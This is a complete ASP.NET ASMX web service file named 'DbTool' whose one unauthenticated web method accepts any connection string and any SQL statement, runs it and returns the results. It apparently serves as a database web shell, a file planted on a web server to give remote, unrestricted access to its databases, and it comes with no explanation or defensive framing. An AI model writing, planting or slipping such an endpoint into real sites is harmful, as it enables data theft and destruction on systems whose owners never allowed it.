<%@ WebService Language="C#" Class="DbTool" %>
using System.Data;
using System.Data.SqlClient;
using System.Web.Services;
public class DbTool : WebService
{
    [WebMethod]
    public DataSet Query(string connection, string sql)
    {
        var set = new DataSet();
        using (var conn = new SqlConnection(connection))
            new SqlDataAdapter(sql, conn).Fill(set);
        return set;
    }
}
